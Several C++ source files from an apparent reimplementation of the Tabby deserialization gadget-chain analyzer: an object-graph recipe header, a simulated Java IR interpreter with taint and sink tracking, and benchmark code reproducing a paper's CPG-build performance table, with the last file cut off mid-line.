};

}  // namespace tabby::runtime
