// Declarative attack-object recipes. A ground-truth gadget chain in the
// corpus carries one of these: the object graph an attacker would serialize.
// instantiate() materialises it (cycles allowed) for the VM to deserialize.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <variant>
#include <vector>

#include "runtime/vm.hpp"

namespace tabby::runtime {

/// A field value in a recipe: a literal, or a reference to another named
/// object in the same graph.
struct Ref {
  std::string name;
};
using FieldSpec = std::variant<std::monostate, std::int64_t, std::string, Ref>;

struct ObjectSpec {
  std::string class_name;
  std::map<std::string, FieldSpec> fields;
  std::vector<FieldSpec> elements;  // for array-like objects
};

struct ObjectGraphSpec {
  std::map<std::string, ObjectSpec> objects;
  std::string root;

  bool empty() const { return objects.empty() || root.empty(); }
};

/// Materialise the graph. References to undefined names become null.
/// Returns nullptr when the spec is empty or the root is undefined.
ObjectPtr instantiate(const ObjectGraphSpec& spec);

}  // namespace tabby::runtime
