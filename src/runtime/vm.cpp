#include "runtime/vm.hpp"

#include <unordered_map>
#include <unordered_set>

#include "cpg/schema.hpp"
#include "util/failpoint.hpp"

namespace tabby::runtime {

namespace {

/// Java-ish comparison semantics for IfStmt, permissive on type mismatches.
bool compare(const VmValue& a, jir::CmpOp op, const VmValue& b) {
  using jir::CmpOp;
  auto cmp_result = [&](int c) {
    switch (op) {
      case CmpOp::Eq: return c == 0;
      case CmpOp::Ne: return c != 0;
      case CmpOp::Lt: return c < 0;
      case CmpOp::Gt: return c > 0;
      case CmpOp::Le: return c <= 0;
      case CmpOp::Ge: return c >= 0;
    }
    return false;
  };

  const auto* ai = std::get_if<std::int64_t>(&a.data);
  const auto* bi = std::get_if<std::int64_t>(&b.data);
  if (ai != nullptr && bi != nullptr) return cmp_result(*ai < *bi ? -1 : (*ai > *bi ? 1 : 0));

  const auto* as = std::get_if<std::string>(&a.data);
  const auto* bs = std::get_if<std::string>(&b.data);
  if (as != nullptr && bs != nullptr) return cmp_result(as->compare(*bs) < 0 ? -1 : (*as == *bs ? 0 : 1));

  if (a.is_null() && b.is_null()) return op == CmpOp::Eq || op == CmpOp::Le || op == CmpOp::Ge;

  const auto* ao = a.object();
  const auto* bo = b.object();
  if (ao != nullptr && bo != nullptr) {
    bool same = ao->get() == bo->get();
    if (op == CmpOp::Eq) return same;
    if (op == CmpOp::Ne) return !same;
    return false;
  }

  // Mixed types: only equality-style comparison is meaningful.
  if (op == CmpOp::Ne) return true;
  return false;
}

}  // namespace

struct Interpreter::RunState {
  std::size_t steps = 0;
  std::size_t depth = 0;
  bool aborted = false;
  std::string fault;
  FaultKind fault_kind = FaultKind::None;
  std::vector<SinkHit> sink_hits;
  std::vector<std::string> call_stack;
  std::map<std::string, VmValue> statics;  // "Owner.field"

  void abort(std::string why, FaultKind kind) {
    aborted = true;
    fault = std::move(why);
    fault_kind = kind;
  }
};

Interpreter::Interpreter(const jir::Program& program, const jir::Hierarchy& hierarchy,
                         VmOptions options)
    : program_(&program), hierarchy_(&hierarchy), options_(std::move(options)) {}

void Interpreter::taint_graph(const ObjectPtr& root) {
  if (!root) return;
  std::unordered_set<Object*> seen;
  std::vector<ObjectPtr> work{root};
  while (!work.empty()) {
    ObjectPtr current = std::move(work.back());
    work.pop_back();
    if (!seen.insert(current.get()).second) continue;
    // Taint every stored value in place; queue nested objects.
    std::vector<std::pair<std::string, VmValue>> updates;
    for (const auto& [name, value] : current->fields()) {
      VmValue v = value;
      v.tainted = true;
      if (const ObjectPtr* nested = v.object()) work.push_back(*nested);
      updates.emplace_back(name, std::move(v));
    }
    for (auto& [name, v] : updates) current->set_field(name, std::move(v));
    for (VmValue& element : current->elements()) {
      element.tainted = true;
      if (const ObjectPtr* nested = element.object()) work.push_back(*nested);
    }
  }
}

ExecutionResult Interpreter::run(const std::string& owner, const std::string& method,
                                 VmValue receiver, std::vector<VmValue> args) {
  RunState state;
  auto id = program_->resolve_method(owner, method, static_cast<int>(args.size()));
  ExecutionResult result;
  if (!id) {
    result.fault = "no such method: " + owner + "#" + method;
    result.fault_kind = FaultKind::Setup;
    return result;
  }
  execute(state, *id, std::move(receiver), std::move(args));
  result.completed = !state.aborted;
  result.fault = state.fault;
  result.fault_kind = state.fault_kind;
  result.steps = state.steps;
  result.sink_hits = std::move(state.sink_hits);
  return result;
}

ExecutionResult Interpreter::deserialize(const ObjectPtr& root) {
  ExecutionResult merged;
  merged.completed = true;
  if (!root) {
    merged.completed = false;
    merged.fault = "null root object";
    merged.fault_kind = FaultKind::Setup;
    return merged;
  }
  taint_graph(root);

  // Attacker-controlled input stream handed to readObject-style sources.
  ObjectPtr stream = std::make_shared<Object>("java.io.ObjectInputStream");

  // Walk the class chain of the root collecting declared source methods.
  std::vector<std::string> chain{root->class_name()};
  for (const std::string& super : hierarchy_->all_supertypes(root->class_name())) {
    chain.push_back(super);
  }
  bool any_run = false;
  for (const std::string& cls : chain) {
    const jir::ClassDecl* decl = program_->find_class(cls);
    if (decl == nullptr) continue;
    // Same source rule as the CPG: a deserialization entry point must be a
    // bodied override declared in a serializable class.
    if (!hierarchy_->is_serializable(cls)) continue;
    for (const jir::Method& m : decl->methods) {
      if (!options_.sources.is_source_name(m.name) || !m.has_body()) continue;
      any_run = true;
      std::vector<VmValue> args(static_cast<std::size_t>(m.nargs()),
                                VmValue::of(stream, /*taint=*/true));
      ExecutionResult one = run(cls, m.name, VmValue::of(root, /*taint=*/true), std::move(args));
      merged.steps += one.steps;
      merged.completed = merged.completed && one.completed;
      if (merged.fault.empty()) {
        merged.fault = one.fault;
        merged.fault_kind = one.fault_kind;
      }
      for (SinkHit& hit : one.sink_hits) merged.sink_hits.push_back(std::move(hit));
    }
  }
  if (!any_run) {
    merged.completed = false;
    merged.fault = "no deserialization source method on " + root->class_name();
    merged.fault_kind = FaultKind::Setup;
  }
  return merged;
}

VmValue Interpreter::invoke(RunState& state, const jir::InvokeStmt& stmt,
                            const std::map<std::string, VmValue>&, VmValue receiver,
                            std::vector<VmValue> args) {
  // Sink observation happens at the *declared* target (the resolution point
  // the static analyses reason about).
  const cpg::SinkSpec* sink = options_.sinks.match(stmt.callee.owner, stmt.callee.name);
  if (sink != nullptr) {
    SinkHit hit;
    hit.signature = stmt.callee.to_string();
    hit.sink_type = sink->type;
    hit.trigger_satisfied = true;
    for (int pos : sink->trigger) {
      const VmValue* v = nullptr;
      if (pos == 0) {
        v = &receiver;
      } else if (pos >= 1 && pos <= static_cast<int>(args.size())) {
        v = &args[static_cast<std::size_t>(pos - 1)];
      }
      if (v == nullptr || !v->tainted) hit.trigger_satisfied = false;
    }
    hit.call_stack = state.call_stack;
    hit.call_stack.push_back(hit.signature);
    state.sink_hits.push_back(std::move(hit));
    return VmValue::null();  // sinks are terminal effects, not modeled bodies
  }

  // Dynamic dispatch.
  std::optional<jir::MethodId> target;
  if (stmt.kind == jir::InvokeKind::Static || stmt.kind == jir::InvokeKind::Special) {
    target = program_->resolve_method(stmt.callee.owner, stmt.callee.name, stmt.callee.nargs);
  } else {
    std::string dynamic_class;
    if (const ObjectPtr* obj = receiver.object()) {
      dynamic_class = (*obj)->class_name();
    } else if (std::holds_alternative<std::string>(receiver.data)) {
      dynamic_class = std::string(jir::kStringClass);
    } else if (receiver.is_null()) {
      // NullPointerException kills the chain — modeled negative evidence.
      state.abort("NPE invoking " + stmt.callee.to_string(), FaultKind::Modeled);
      return VmValue::null();
    }
    if (!dynamic_class.empty()) {
      target = hierarchy_->dispatch(dynamic_class, stmt.callee.name, stmt.callee.nargs);
    }
    if (!target) {
      target = program_->resolve_method(stmt.callee.owner, stmt.callee.name, stmt.callee.nargs);
    }
  }

  if (!target || !program_->method(*target).has_body()) {
    return VmValue::null();  // phantom/native non-sink: inert
  }
  return execute(state, *target, std::move(receiver), std::move(args));
}

VmValue Interpreter::execute(RunState& state, jir::MethodId method_id, VmValue receiver,
                             std::vector<VmValue> args) {
  if (state.aborted) return VmValue::null();
  if (state.depth >= options_.max_call_depth) {
    state.abort("call depth exceeded", FaultKind::Budget);
    return VmValue::null();
  }

  const jir::ClassDecl& cls = program_->class_of(method_id);
  const jir::Method& method = program_->method(method_id);
  ++state.depth;
  state.call_stack.push_back(cpg::method_signature(cls.name, method.name, method.nargs()));

  std::map<std::string, VmValue> locals;
  if (!method.mods.is_static) locals[std::string(jir::kThisVar)] = receiver;
  for (std::size_t i = 0; i < args.size(); ++i) locals[jir::param_var(static_cast<int>(i + 1))] = args[i];

  // Label resolution for jumps.
  std::unordered_map<std::string, std::size_t> labels;
  for (std::size_t i = 0; i < method.body.size(); ++i) {
    if (const auto* l = std::get_if<jir::LabelStmt>(&method.body[i])) labels[l->name] = i;
  }

  auto local = [&locals](const std::string& name) -> VmValue {
    auto it = locals.find(name);
    return it == locals.end() ? VmValue::null() : it->second;
  };

  VmValue return_value = VmValue::null();
  std::size_t pc = 0;
  while (pc < method.body.size()) {
    if (state.aborted) break;
    if (++state.steps > options_.max_steps) {
      state.abort("step budget exceeded", FaultKind::Budget);
      break;
    }
    if (util::failpoint::poll("runtime.step")) {
      state.abort("interpreter fault injected at step " + std::to_string(state.steps),
                  FaultKind::Fault);
      break;
    }
    // The deadline poll is a clock read, so amortize it across steps.
    if ((state.steps & 255u) == 0 && options_.deadline.expired()) {
      state.abort("wall-clock budget exceeded", FaultKind::Timeout);
      break;
    }
    const jir::Stmt& stmt = method.body[pc];
    std::size_t next_pc = pc + 1;

    if (const auto* s = std::get_if<jir::AssignStmt>(&stmt)) {
      locals[s->target] = local(s->source);
    } else if (const auto* s = std::get_if<jir::ConstStmt>(&stmt)) {
      if (s->value.is_null()) {
        locals[s->target] = VmValue::null();
      } else if (const auto* i = std::get_if<std::int64_t>(&s->value.value)) {
        locals[s->target] = VmValue::of(*i);
      } else {
        const std::string& text = std::get<std::string>(s->value.value);
        if (text.size() > options_.max_string_bytes) {
          state.abort("string byte budget exceeded", FaultKind::Budget);
          break;
        }
        locals[s->target] = VmValue::of(text);
      }
    } else if (const auto* s = std::get_if<jir::NewStmt>(&stmt)) {
      locals[s->target] = VmValue::of(std::make_shared<Object>(s->type.name));
    } else if (const auto* s = std::get_if<jir::FieldStoreStmt>(&stmt)) {
      VmValue base = local(s->base);
      if (const ObjectPtr* obj = base.object()) {
        (*obj)->set_field(s->field, local(s->source));
      } else if (base.is_null()) {
        state.abort("NPE storing field " + s->field, FaultKind::Modeled);
      }
    } else if (const auto* s = std::get_if<jir::FieldLoadStmt>(&stmt)) {
      VmValue base = local(s->base);
      if (const ObjectPtr* obj = base.object()) {
        locals[s->target] = (*obj)->get_field(s->field);
      } else if (base.is_null()) {
        state.abort("NPE loading field " + s->field, FaultKind::Modeled);
      } else {
        locals[s->target] = VmValue::null();
      }
    } else if (const auto* s = std::get_if<jir::StaticStoreStmt>(&stmt)) {
      state.statics[s->owner + "." + s->field] = local(s->source);
    } else if (const auto* s = std::get_if<jir::StaticLoadStmt>(&stmt)) {
      auto it = state.statics.find(s->owner + "." + s->field);
      locals[s->target] = it == state.statics.end() ? VmValue::null() : it->second;
    } else if (const auto* s = std::get_if<jir::ArrayStoreStmt>(&stmt)) {
      VmValue base = local(s->base);
      VmValue index = local(s->index);
      const auto* idx = std::get_if<std::int64_t>(&index.data);
      if (const ObjectPtr* obj = base.object(); obj != nullptr && idx != nullptr && *idx >= 0) {
        auto& elements = (*obj)->elements();
        if (static_cast<std::size_t>(*idx) >= elements.size()) {
          if (static_cast<std::size_t>(*idx) >= options_.max_array_elements) {
            state.abort("array growth budget exceeded", FaultKind::Budget);
            break;
          }
          elements.resize(static_cast<std::size_t>(*idx) + 1);
        }
        elements[static_cast<std::size_t>(*idx)] = local(s->source);
      }
    } else if (const auto* s = std::get_if<jir::ArrayLoadStmt>(&stmt)) {
      VmValue base = local(s->base);
      VmValue index = local(s->index);
      const auto* idx = std::get_if<std::int64_t>(&index.data);
      VmValue loaded = VmValue::null();
      if (const ObjectPtr* obj = base.object(); obj != nullptr && idx != nullptr && *idx >= 0 &&
                                                static_cast<std::size_t>(*idx) <
                                                    (*obj)->elements().size()) {
        loaded = (*obj)->elements()[static_cast<std::size_t>(*idx)];
      }
      locals[s->target] = std::move(loaded);
    } else if (const auto* s = std::get_if<jir::CastStmt>(&stmt)) {
      locals[s->target] = local(s->source);  // casts never fail in the model
    } else if (const auto* s = std::get_if<jir::ReturnStmt>(&stmt)) {
      if (!s->value.empty()) return_value = local(s->value);
      break;
    } else if (const auto* s = std::get_if<jir::InvokeStmt>(&stmt)) {
      VmValue base = s->base.empty() ? VmValue::null() : local(s->base);
      std::vector<VmValue> call_args;
      call_args.reserve(s->args.size());
      for (const std::string& a : s->args) call_args.push_back(local(a));
      VmValue result = invoke(state, *s, locals, std::move(base), std::move(call_args));
      if (!s->target.empty()) locals[s->target] = std::move(result);
    } else if (const auto* s = std::get_if<jir::IfStmt>(&stmt)) {
      if (compare(local(s->lhs), s->op, local(s->rhs))) {
        auto it = labels.find(s->target_label);
        if (it == labels.end()) {
          state.abort("jump to unknown label " + s->target_label, FaultKind::Fault);
          break;
        }
        next_pc = it->second;
      }
    } else if (const auto* s = std::get_if<jir::GotoStmt>(&stmt)) {
      auto it = labels.find(s->target_label);
      if (it == labels.end()) {
        state.abort("jump to unknown label " + s->target_label, FaultKind::Fault);
        break;
      }
      next_pc = it->second;
    } else if (std::get_if<jir::ThrowStmt>(&stmt) != nullptr) {
      // Exceptions terminate the deserialization; the chain dies here.
      state.abort("exception thrown in " + state.call_stack.back(), FaultKind::Modeled);
      break;
    }
    // LabelStmt / NopStmt: nothing.
    pc = next_pc;
  }

  state.call_stack.pop_back();
  --state.depth;
  return return_value;
}

}  // namespace tabby::runtime
