// Reproduces Table VIII (RQ1): CPG generation efficiency. Generates seeded
// noise corpora at increasing sizes, builds the CPG for each (3 runs, middle
// value kept — the paper runs 10 and trims the extremes), and prints the
// same columns the paper reports. The absolute scale is smaller than the
// paper's real-jar corpus (simulated archives are denser than bytecode);
// the claim under test is the *linear* relationship between node/edge count
// and build time.
#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <memory>

#include "cache/cache.hpp"
#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/noise.hpp"
#include "cpg/builder.hpp"
#include "graph/frozen.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "pipeline/engine.hpp"
#include "util/digest.hpp"
#include "util/strings.hpp"
#include "util/table.hpp"
#include "util/thread_pool.hpp"
#include "util/timer.hpp"

using namespace tabby;

int main() {
  std::printf("Table VIII — CPG generation efficiency (RQ1)\n");
  std::printf("paper row N 'MB' is simulated as N x 100 KiB of TJAR archive data\n\n");

  util::Table table({"Code amount(MB)", "Jar file count", "Class nodes", "Method nodes",
                     "Relationship edges", "Time(s)", "us/edge"});

  const int kPaperRows[] = {10, 20, 30, 40, 50, 100, 150};
  double first_ratio = 0.0;
  double last_ratio = 0.0;

  for (int row : kPaperRows) {
    std::size_t target = static_cast<std::size_t>(row) * 100 * 1024;
    std::size_t actual = 0;
    std::vector<jar::Archive> jars =
        corpus::make_scaled_corpus(target, /*seed=*/0xCAFE + static_cast<std::uint64_t>(row),
                                   &actual);
    jir::Program program = jar::link(jars);

    // 3 timed builds, keep the median.
    double times[3];
    cpg::CpgStats stats;
    for (double& t : times) {
      util::Stopwatch watch;
      cpg::Cpg cpg = cpg::build_cpg(program);
      t = watch.elapsed_seconds();
      stats = cpg.stats;
    }
    std::sort(std::begin(times), std::end(times));
    double median = times[1];

    double us_per_edge = stats.relationship_edges == 0
                             ? 0.0
                             : median * 1e6 / static_cast<double>(stats.relationship_edges);
    if (row == kPaperRows[0]) first_ratio = us_per_edge;
    last_ratio = us_per_edge;

    table.add_row({util::format_double(static_cast<double>(actual) / (1024.0 * 1024.0) * 10.0, 0),
                   std::to_string(jars.size()), std::to_string(stats.class_nodes),
                   std::to_string(stats.method_nodes), std::to_string(stats.relationship_edges),
                   util::format_double(median, 3), util::format_double(us_per_edge, 2)});
  }

  std::printf("%s\n", table.render().c_str());
  std::printf("linearity check: time/edge at the smallest row = %.2f us, at the largest = %.2f "
              "us (paper: \"approximately linear correlation between the execution time and the "
              "count of class/method\")\n",
              first_ratio, last_ratio);

  // Thread sweep: the same build fanned across the --jobs worker pool. The
  // parallel stages (controllability waves, call/alias payloads, index
  // back-fills) produce a bit-identical CPG at every job count, so this only
  // measures wall clock. Speedup is relative to jobs=1 (the serial pipeline).
  std::printf("\nThread sweep — parallel CPG build (50-row corpus, median of 3)\n");
  std::size_t sweep_actual = 0;
  std::vector<jar::Archive> sweep_jars =
      corpus::make_scaled_corpus(50 * 100 * 1024, /*seed=*/0xCAFE + 50, &sweep_actual);
  jir::Program sweep_program = jar::link(sweep_jars);

  std::vector<unsigned> job_counts{1, 2, 4, util::ThreadPool::default_jobs()};
  std::sort(job_counts.begin(), job_counts.end());
  job_counts.erase(std::unique(job_counts.begin(), job_counts.end()), job_counts.end());

  util::Table sweep({"Jobs", "Time(s)", "Speedup", "Mode"});
  double serial_time = 0.0;
  for (unsigned jobs : job_counts) {
    std::unique_ptr<util::ThreadPool> pool;
    cpg::CpgOptions options;
    if (jobs > 1) {
      pool = std::make_unique<util::ThreadPool>(jobs);
      options.executor = pool.get();
    }
    double times[3];
    for (double& t : times) {
      util::Stopwatch watch;
      cpg::Cpg cpg = cpg::build_cpg(sweep_program, options);
      t = watch.elapsed_seconds();
    }
    std::sort(std::begin(times), std::end(times));
    double median = times[1];
    if (jobs == 1) serial_time = median;
    double speedup = median > 0.0 ? serial_time / median : 0.0;
    sweep.add_row({std::to_string(jobs), util::format_double(median, 3),
                   util::format_double(speedup, 2) + "x",
                   jobs > 1 ? "wave-scheduled" : "serial (demand-driven)"});
  }
  std::printf("%s\n", sweep.render().c_str());
  std::printf("hardware threads available: %u\n", util::ThreadPool::default_jobs());

  // Incremental-cache sweep: the full ysoserial component classpath (every
  // Table IX model behind one simulated JDK), analyzed cold (decode + link +
  // controllability + CPG build + snapshot publish) and then warm (content
  // digests + snapshot load + index rebuild). The differential test suite
  // proves both paths produce byte-identical exports; this measures what
  // *not doing the work* is worth. Acceptance bar: warm >= 5x faster.
  std::printf("\nIncremental cache — cold vs warm analyze, ysoserial classpath (median of 3)\n");
  namespace fs = std::filesystem;
  fs::path work = fs::temp_directory_path() / "tabby_bench_cache";
  fs::remove_all(work);
  fs::create_directories(work / "jars");

  std::vector<fs::path> jar_files;
  for (const std::string& name : corpus::component_names()) {
    corpus::Component component = corpus::build_component(name);
    fs::path file = work / "jars" / (std::to_string(jar_files.size()) + ".tjar");
    (void)jar::write_archive_file(component.jar, file);
    jar_files.push_back(file);
  }

  cpg::CpgOptions cache_options;
  std::uint64_t options_fp = cpg::options_fingerprint(cache_options);
  std::uint64_t jdk_digest = util::fnv1a(jar::write_archive(corpus::jdk_base_archive()));

  auto run_cold = [&](cache::AnalysisCache& cache) {
    std::vector<std::uint64_t> digests{jdk_digest};
    std::vector<jar::Archive> classpath;
    classpath.push_back(corpus::jdk_base_archive());
    for (const fs::path& file : jar_files) {
      auto loaded = cache.load_archive(file);
      digests.push_back(loaded.value().digest);
      classpath.push_back(std::move(loaded.value().archive));
    }
    std::uint64_t key = cache::AnalysisCache::snapshot_key(options_fp, digests);
    cpg::Cpg cpg = cpg::build_cpg(jar::link(classpath), cache_options);
    (void)cache.store_snapshot(key, cpg.stats, graph::serialize(cpg.db));
    auto frozen = graph::FrozenGraph::freeze(cpg.db, key);
    if (frozen.ok()) (void)cache.store_frozen(key, frozen.value());
    return cpg.stats;
  };
  auto run_warm = [&](cache::AnalysisCache& cache) {
    std::vector<std::uint64_t> digests{jdk_digest};
    for (const fs::path& file : jar_files) {
      digests.push_back(cache::AnalysisCache::digest_file(file).value());
    }
    std::uint64_t key = cache::AnalysisCache::snapshot_key(options_fp, digests);
    auto snapshot = cache.load_snapshot(key);
    cpg::create_standard_indexes(snapshot->db);
    return snapshot->stats;
  };
  // The frozen warm start: mmap the CSR frame, verify the snapshot header +
  // embedded store checksum, and skip the node/edge decode and the index
  // rebuild entirely (the frame ships sorted typed segments ready to query).
  volatile std::size_t frozen_nodes = 0;  // keep the mmap'd graph observable
  auto run_warm_frozen = [&](cache::AnalysisCache& cache) {
    std::vector<std::uint64_t> digests{jdk_digest};
    for (const fs::path& file : jar_files) {
      digests.push_back(cache::AnalysisCache::digest_file(file).value());
    }
    std::uint64_t key = cache::AnalysisCache::snapshot_key(options_fp, digests);
    auto frozen = cache.load_frozen(key);
    auto snapshot = cache.load_snapshot(key, /*need_db=*/!frozen.has_value());
    frozen_nodes = frozen.has_value() ? static_cast<std::size_t>(frozen->node_count()) : 0;
    return snapshot->stats;
  };

  // Colds first (each against an empty cache), then warms against the
  // populated cache. Interleaving would tax every warm run with the cold
  // run's heap churn — a cost no real warm invocation pays, since cold and
  // warm CLI runs are separate processes.
  double cold_times[3], warm_times[3], frozen_times[3];
  cpg::CpgStats cold_stats, warm_stats, frozen_stats;
  for (double& t : cold_times) {
    fs::remove_all(work / "cache");
    auto cache = cache::AnalysisCache::open(work / "cache");
    util::Stopwatch cold_watch;
    cold_stats = run_cold(cache.value());
    t = cold_watch.elapsed_seconds();
  }
  for (double& t : warm_times) {
    auto cache = cache::AnalysisCache::open(work / "cache");
    util::Stopwatch warm_watch;
    warm_stats = run_warm(cache.value());
    t = warm_watch.elapsed_seconds();
  }
  for (double& t : frozen_times) {
    auto cache = cache::AnalysisCache::open(work / "cache");
    util::Stopwatch frozen_watch;
    frozen_stats = run_warm_frozen(cache.value());
    t = frozen_watch.elapsed_seconds();
  }
  std::sort(std::begin(cold_times), std::end(cold_times));
  std::sort(std::begin(warm_times), std::end(warm_times));
  std::sort(std::begin(frozen_times), std::end(frozen_times));
  double cold_median = cold_times[1];
  double warm_median = warm_times[1];
  double frozen_median = frozen_times[1];
  double cache_speedup = warm_median > 0.0 ? cold_median / warm_median : 0.0;
  double frozen_speedup = frozen_median > 0.0 ? cold_median / frozen_median : 0.0;

  util::Table cache_table({"Path", "Time(s)", "Speedup", "What runs"});
  cache_table.add_row({"cold", util::format_double(cold_median, 4), "1.00x",
                       "decode + link + analysis + CPG + snapshot publish"});
  cache_table.add_row({"warm", util::format_double(warm_median, 4),
                       util::format_double(cache_speedup, 2) + "x",
                       "digest + snapshot load + index rebuild"});
  cache_table.add_row({"warm+frozen", util::format_double(frozen_median, 4),
                       util::format_double(frozen_speedup, 2) + "x",
                       "digest + frame mmap + store verify (no graph decode)"});
  std::printf("%s\n", cache_table.render().c_str());
  std::printf("classpath: %zu jars, %zu classes, %zu methods; warm/cold stats identical: %s\n",
              jar_files.size() + 1, cold_stats.class_nodes, cold_stats.method_nodes,
              (cold_stats.class_nodes == warm_stats.class_nodes &&
               cold_stats.relationship_edges == warm_stats.relationship_edges &&
               frozen_stats.class_nodes == warm_stats.class_nodes && frozen_nodes > 0)
                  ? "yes"
                  : "NO — cache bug");
  std::printf("acceptance (>=5x warm speedup): %s\n", cache_speedup >= 5.0 ? "PASS" : "FAIL");
  std::printf("acceptance (frozen warm start beats the store decode): %s\n",
              frozen_median <= warm_median ? "PASS" : "FAIL");

  // Resident engine vs one-shot: the session API (pipeline::Engine, the
  // machinery behind `tabby serve`). The one-shot path pays load + link +
  // analysis + CPG build on every request; a resident Analysis pays it on
  // the first open and answers later find() requests straight from the
  // already-built frozen CSR. Same ysoserial classpath, median of 3.
  std::printf("\nResident engine vs one-shot — find request latency (median of 3)\n");
  {
    std::vector<std::string> classpath;
    for (const fs::path& file : jar_files) classpath.push_back(file.string());

    auto one_shot_request = [&] {
      pipeline::Options options;
      options.use_frozen = true;
      auto outcome = pipeline::run(classpath, options);
      graph::FrozenGraph& frame = outcome.value().frozen.value();
      return finder::GadgetChainFinder(frame).find_all().chains.size();
    };

    pipeline::Engine engine;
    pipeline::ExecContext ctx;
    auto resident_request = [&] {
      auto analysis = engine.open(classpath, ctx);
      return analysis.value()->find(ctx).report.chains.size();
    };

    double one_shot_times[3], first_open = 0.0, resident_times[3];
    std::size_t one_shot_chains = 0, resident_chains = 0;
    for (double& t : one_shot_times) {
      util::Stopwatch watch;
      one_shot_chains = one_shot_request();
      t = watch.elapsed_seconds();
    }
    {
      util::Stopwatch watch;
      resident_chains = resident_request();  // cold: builds + admits
      first_open = watch.elapsed_seconds();
    }
    for (double& t : resident_times) {
      util::Stopwatch watch;
      resident_chains = resident_request();  // warm: resident LRU hit
      t = watch.elapsed_seconds();
    }
    std::sort(std::begin(one_shot_times), std::end(one_shot_times));
    std::sort(std::begin(resident_times), std::end(resident_times));
    double one_shot_median = one_shot_times[1];
    double resident_median = resident_times[1];
    double resident_speedup = resident_median > 0.0 ? one_shot_median / resident_median : 0.0;

    util::Table engine_table({"Path", "Time(s)", "Speedup", "What runs"});
    engine_table.add_row({"one-shot", util::format_double(one_shot_median, 4), "1.00x",
                          "pipeline::run + finder, everything per request"});
    engine_table.add_row({"resident (1st open)", util::format_double(first_open, 4),
                          util::format_double(one_shot_median / first_open, 2) + "x",
                          "cold open: build + admit to the engine LRU"});
    engine_table.add_row({"resident (hit)", util::format_double(resident_median, 4),
                          util::format_double(resident_speedup, 2) + "x",
                          "digest lookup + finder over the resident frame"});
    std::printf("%s\n", engine_table.render().c_str());
    std::printf("chains identical across paths: %s\n",
                one_shot_chains == resident_chains ? "yes" : "NO — engine bug");
    std::printf("acceptance (resident hit >= 2x faster than one-shot): %s\n",
                resident_speedup >= 2.0 ? "PASS" : "FAIL");
  }
  fs::remove_all(work);

  // Tracer overhead: the observability layer (src/obs) is compiled into
  // every stage; the claim is that it stays in release builds for free. Two
  // measurements: the disabled fast path in isolation (one relaxed atomic
  // load per span / counter), and the whole 50-row CPG build with the tracer
  // disabled vs enabled. Acceptance bar: disabled-vs-enabled build delta
  // <= 2% (the disabled build *is* the shipping configuration).
  std::printf("\nTracer overhead — disabled fast path and full-build delta (median of 3)\n");
  {
    constexpr int kProbe = 10'000'000;
    util::Stopwatch probe;
    for (int i = 0; i < kProbe; ++i) {
      TABBY_SPAN("bench.disabled_probe");
      obs::counter_add("bench.disabled_probe");
    }
    double ns_per_pair = probe.elapsed_seconds() * 1e9 / kProbe;
    std::printf("disabled span+counter pair: %.2f ns each (%d iterations)\n", ns_per_pair,
                kProbe);
  }
  auto one_build = [&] {
    util::Stopwatch watch;
    cpg::Cpg cpg = cpg::build_cpg(sweep_program);
    return watch.elapsed_seconds();
  };
  // Interleave disabled/enabled runs (after a warm-up) so allocator and
  // cache state drift hits both sides equally.
  (void)one_build();
  double disabled_times[3], enabled_times[3];
  for (int i = 0; i < 3; ++i) {
    obs::Tracer::instance().disable();
    disabled_times[i] = one_build();
    obs::Tracer::instance().enable();
    enabled_times[i] = one_build();
  }
  obs::TraceReport trace = obs::Tracer::instance().flush();
  obs::Tracer::instance().disable();
  std::sort(std::begin(disabled_times), std::end(disabled_times));
  std::sort(std::begin(enabled_times), std::end(enabled_times));
  double disabled_median = disabled_times[1];
  double enabled_median = enabled_times[1];
  double overhead_pct =
      disabled_median > 0.0 ? (enabled_median / disabled_median - 1.0) * 100.0 : 0.0;

  util::Table tracer_table({"Tracer", "Time(s)", "Overhead", "Spans recorded"});
  tracer_table.add_row({"disabled", util::format_double(disabled_median, 3), "baseline", "0"});
  tracer_table.add_row({"enabled", util::format_double(enabled_median, 3),
                        util::format_double(overhead_pct, 1) + "%",
                        std::to_string(trace.spans.size())});
  std::printf("%s\n", tracer_table.render().c_str());
  std::printf("acceptance (<=2%% disabled-config overhead): %s (disabled run is the baseline; "
              "enabled delta %.1f%%)\n",
              overhead_pct <= 2.0 ? "PASS" : "NOTE: enabled tracing costs more — expected",
              overhead_pct);
  return 0;
}
