// Reproduces Table VIII (RQ1): CPG generation efficiency. Generates seeded
// noise corpora at increasing sizes, builds the CPG for each (3 runs, middle
// value kept — the paper runs 10 and trims the extremes), and prints the
// same columns the paper reports. The absolute scale is smaller than the
// paper's real-jar corpus (simulated archives are denser than bytecode);
// the claim under test is the *linear* relationship between node/edge count
// and build time.
#include <algorithm>
#include <cstdio>

#include "corpus/noise.hpp"
#include "cpg/builder.hpp"
#include "jar/archive.hpp"
#include "util/strings.hpp"
#include "util/table.hpp"
#include "util/timer.hpp"

using namespace tabby;

int main() {
  std::printf("Table VIII — CPG generation efficiency (RQ1)\n");
  std::printf("paper row N 'MB' is simulated as N x 100 KiB of TJAR archive data\n\n");

  util::Table table({"Code amount(MB)", "Jar file count", "Class nodes", "Method nodes",
                     "Relationship edges", "Time(s)", "us/edge"});

  const int kPaperRows[] = {10, 20, 30, 40, 50, 100, 150};
  double first_ratio = 0.0;
  double last_ratio = 0.0;

  for (int row : kPaperRows) {
    std::size_t target = static_cast<std::size_t>(row) * 100 * 1024;
    std::size_t actual = 0;
    std::vector<jar::Archive> jars =
        corpus::make_scaled_corpus(target, /*seed=*/0xCAFE + static_cast<std::uint64_t>(row),
                                   &actual);
    jir::Program program = jar::link(jars);

    // 3 timed builds, keep the median.
    double times[3];
    cpg::CpgStats stats;
    for (double& t : times) {
      util::Stopwatch watch;
      cpg::Cpg cpg = cpg::build_cpg(program);
      t = watch.elapsed_seconds();
      stats = cpg.stats;
    }
    std::sort(std::begin(times), std::end(times));
    double median = times[1];

    double us_per_edge = stats.relationship_edges == 0
                             ? 0.0
                             : median * 1e6 / static_cast<double>(stats.relationship_edges);
    if (row == kPaperRows[0]) first_ratio = us_per_edge;
    last_ratio = us_per_edge;

    table.add_row({util::format_double(static_cast<double>(actual) / (1024.0 * 1024.0) * 10.0, 0),
                   std::to_string(jars.size()), std::to_string(stats.class_nodes),
                   std::to_string(stats.method_nodes), std::to_string(stats.relationship_edges),
